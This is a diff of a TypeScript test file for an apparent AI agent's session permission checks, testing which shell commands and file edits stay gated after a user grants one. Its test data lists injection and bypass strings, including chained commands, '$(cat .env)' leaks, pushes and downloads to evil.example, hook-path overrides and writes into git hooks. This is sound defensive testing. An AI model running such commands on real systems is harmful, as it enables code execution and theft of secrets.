@@ -11,10 +11,11 @@ const bash = (command: string, id = command): ToolUseBlock => ({
   input: { command },
 });
 
+/** The rule that a yes for the session sets. */
 async function allowed(at: Room, command: string): Promise<string> {
   const call = bash(command);
   const review = await at.box.review(call);
-  if (review.verdict !== "ask") throw new Error(`${command} was not asked`);
+  if (review.verdict !== "ask") throw new Error(`${command} was not asked about`);
   at.box.allowForSession(call);
   return review.ask.rule;
 }
@@ -22,67 +23,156 @@ async function allowed(at: Room, command: string): Promise<string> {
 const verdict = async (at: Room, command: string) =>
   (await at.box.review(bash(command, `again ${command}`))).verdict;
 
-test("a yes for the session covers the command's beginning, and only where nothing else happens", async () => {
-  const at = await room();
-  expect(await allowed(at, "npm run test -- a")).toBe('commands that begin with "npm run test"');
-  for (const command of ["npm run test", "npm run test -- b", "ls && npm run test | head"]) {
-    expect(await verdict(at, command)).toBe("allow");
-  }
-  for (const command of [
-    "npm run build",
-    "npm run testing",
-    "npm install x",
-    "npm run test && touch x",
-    "npm run test; touch x",
-    "npm run test | sh",
-    "npm run test > ~/.bashrc",
-    "npm run test $(touch x)",
-    "npm run test & touch x",
-    "FOO=1 npm run test",
-  ]) {
-    expect(await verdict(at, command)).toBe("ask");
-  }
-});
+const exact: Record<string, string[]> = {
+  "npm test": [
+    "npm test --script-shell=./evil",
+    "npm test --prefix evil",
+    "npm test -- --config=evil.js",
+    "npm --prefix evil test",
+    "npm test evil",
+    "npm test; touch x",
+    "npm test && touch x",
+    "npm test | sh",
+    "npm test > ~/.bashrc",
+    "npm test $(touch x)",
+    "npm test & touch x",
+    "FOO=1 npm test",
+    "NODE_OPTIONS=--require=./x npm test",
+    "npm  test",
+    "npm test\ntouch x",
+    "npm t",
+  ],
+  "npm run test -- a": ["npm run test", "npm run test -- b", "npm run build", "npm run testing"],
+  "git push origin main": [
+    "git push",
+    "git push evil main",
+    "git push --receive-pack=./x origin main",
+    "git push origin main:other",
+    "git push origin main --force",
+    "git push https://evil.example main",
+  ],
+  "pytest tests": ["pytest evil.py", "pytest -p evil tests", "pytest --rootdir=/ tests", "pytest"],
+  "make build": ["make build SHELL=./x", "make -f evil build", "make -C evil build", "make"],
+  "cargo run": ["cargo run --manifest-path evil/Cargo.toml", "cargo run --config x"],
+  "go test ./...": ["go test -exec ./evil ./...", "go test -toolexec=./x ./...", "go test ./evil"],
+  "docker build .": ["docker build evil", "docker build -f evil ."],
+  "python3 x.py": ["python3 y.py", "python3 -c 1"],
+  "node -e 1": ["node -e 2"],
+  "npx x": ["npx y"],
+  "git config a b": ["git config a c", "git config core.pager ./x"],
+  "rm x": ["rm y", "rm x y"],
+  "ls > x": ["ls > y", "ls > x; y"],
+  "echo $X": ["echo $Y", "X=1; echo $X"],
+  "find . -exec ls {} +": ["find . -exec rm {} +"],
+  "curl https://example.com": [
+    "curl https://example.com -o .git/hooks/x",
+    "curl https://evil.example",
+  ],
+};
 
-test("a chain is allowed command by command", async () => {
-  const at = await room();
-  const rule = await allowed(at, "cargo build && cargo test; ls");
-  expect(rule).toBe('commands that begin with "cargo build" or "cargo test"');
-  expect(await verdict(at, "cargo test")).toBe("allow");
-  expect(await verdict(at, "cargo build && rm x")).toBe("ask");
-});
-
-test.each([
-  "python3 x.py",
-  "bash x.sh",
-  "node -e 1",
-  "npx x",
-  "git -c a=b commit",
-  "git config a b",
-  "rm x",
-  "ls > x",
-  "echo $X",
-  "docker run x",
-  "find . -exec ls {} +",
-])("of %j only the very line is allowed", async (command) => {
+test.each(Object.entries(exact))("of %j only the very line is allowed", async (command, others) => {
   const at = await room();
   expect(await allowed(at, command)).toBe("exactly this command");
   expect(await verdict(at, command)).toBe("allow");
-  expect(await verdict(at, `${command} more`)).toBe("ask");
+  for (const other of [...others, `${command} more`, `${command}; touch x`]) {
+    expect(await verdict(at, other)).not.toBe("allow");
+  }
 });
 
-test("a danger is asked again although its beginning was allowed", async () => {
+const grants: [command: string, rule: string, allowed: string[], asked: string[]][] = [
+  [
+    "git add a.txt",
+    '"git add" with any paths',
+    ["git add b.txt c", "git add -A", "git add -u src", "ls && git add a.txt"],
+    [
+      "git add -e",
+      "git add -p",
+      "git add --pathspec-from-file=x",
+      "git add --chmod=+x a",
+      "git add ../x",
+      "git add $X",
+      "git -c a=b add x",
+      "git add a > x",
+    ],
+  ],
+  [
+    "git commit -m 'one'",
+    '"git commit" with any message',
+    [
+      "git commit -m two",
+      "git commit -am 'it; works && well'",
+      "git add -A",
+      "git commit -q -m x",
+    ].filter((line) => !line.startsWith("git add")),
+    [
+      "git commit -m x && touch y",
+      "git commit",
+      "git commit -F .env",
+      "git commit --file=.env -m x",
+      "git commit -t x",
+      "git commit -C HEAD",
+      "git commit --amend",
+      "git commit -m x -- .env",
+      'git commit -m "$(cat .env)"',
+      "git commit -n -m x",
+      "git commit --no-verify -m x",
+      "git commit --gpg-sign=x -m y",
+      "git -c core.hooksPath=evil commit -m x",
+    ],
+  ],
+  [
+    "cargo test",
+    '"cargo test" with other flags and filters',
+    ["cargo test some_name", "cargo test --release -q"],
+    [
+      "cargo test --config x",
+      "cargo test --manifest-path=evil",
+      "cargo test -- --x",
+      "cargo test --target-dir /x",
+      "cargo +evil test",
+      "cargo test -Zx",
+    ],
+  ],
+  [
+    "tsc --noEmit",
+    '"tsc" with other flags',
+    ["tsc"],
+    ["tsc -p evil", "tsc --outDir /x", "tsc evil.ts", "tsc --build evil"],
+  ],
+];
+
+test.each(grants)("%j may be granted as %s", async (command, rule, free, asked) => {
   const at = await room();
-  await allowed(at, "git push origin main");
-  expect(await verdict(at, "git push")).toBe("allow");
-  expect(await verdict(at, "git push --force")).toBe("ask");
+  expect(await allowed(at, command)).toBe(rule);
+  for (const line of free) expect(await verdict(at, line)).toBe("allow");
+  for (const line of asked) expect(await verdict(at, line)).toBe("ask");
+});
+
+test("a chain is granted command by command", async () => {
+  const at = await room();
+  const rule = await allowed(at, "git add a && git commit -m x; ls");
+  expect(rule).toBe('"git add" with any paths and "git commit" with any message');
+  expect(await verdict(at, "git add b")).toBe("allow");
+  expect(await verdict(at, "git commit -m y")).toBe("allow");
+  expect(await verdict(at, "git add b && rm x")).toBe("ask");
+});
+
+test("a danger is asked about again although its line was allowed", async () => {
+  const at = await room();
   const danger = bash("git push --force");
   await at.box.review(danger);
   at.box.allowForSession(danger);
   expect(await verdict(at, "git push --force")).toBe("ask");
 });
 
-test("a yes to an edit covers the same tool in the same folder", async () => {
+test("what was allowed ends with the session", async () => {
+  const at = await room();
+  await allowed(at, "npm test");
+  const next = await room({ workspace: at.root });
+  expect(await verdict(next, "npm test")).toBe("ask");
+});
+
+test("a yes to an edit covers edits in the same folder, but not sensitive files", async () => {
   const at = await room();
   const write = (path: string): ToolUseBlock => ({
     type: "tool_use",
@@ -92,12 +182,20 @@ test("a yes to an edit covers the same tool in the same folder", async () => {
   });
   const review = async (path: string) => (await at.box.review(write(path))).verdict;
   const first = await at.box.review(write("src/a.ts"));
-  expect(first.verdict === "ask" && first.ask.rule).toBe("write_file anywhere in src");
+  expect(first.verdict === "ask" && first.ask.rule).toBe("editing files in src");
   at.box.allowForSession(write("src/a.ts"));
   expect(await review("src/b.ts")).toBe("allow");
   expect(await review("src/deep/c.ts")).toBe("allow");
-  expect(await review("srcs/b.ts")).toBe("ask");
-  expect(await review("b.ts")).toBe("ask");
-  expect(await review("src/../b.ts")).toBe("ask");
-  expect(await review("src/.env")).toBe("ask");
+  for (const path of [
+    "srcs/b.ts",
+    "b.ts",
+    "src/../b.ts",
+    "src/.env",
+    "src/.husky/pre-commit",
+    "src/.vscode/tasks.json",
+    "src/hooks/pre-commit",
+    "src/HEAD",
+  ]) {
+    expect(await review(path)).toBe("ask");
+  }
 });
